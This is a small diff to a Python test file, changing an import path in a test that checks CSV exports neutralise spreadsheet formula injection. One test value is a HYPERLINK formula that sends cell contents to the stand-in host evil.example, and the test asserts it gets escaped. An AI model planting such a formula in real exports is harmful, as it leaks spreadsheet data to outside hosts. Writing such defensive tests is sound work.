@@ -168,7 +168,7 @@ def test_staff_forms_as_a_browser_sends_them_still_save(client, demo, path):
 
 def test_csv_exports_neutralise_formulas(client, demo):
     from models import Invoice
-    from services import csv_export
+    from services.core import csv_export
     assert csv_export.safe_cell('=HYPERLINK("http://evil.example/?"&A1;"Cliquez")').startswith("'=")
     assert [csv_export.safe_cell(v) for v in ("+1", "-2", "@x", "\tx", "\rx", "Martin", 12)] == [
         "'+1", "'-2", "'@x", "'\tx", "'\rx", "Martin", 12]
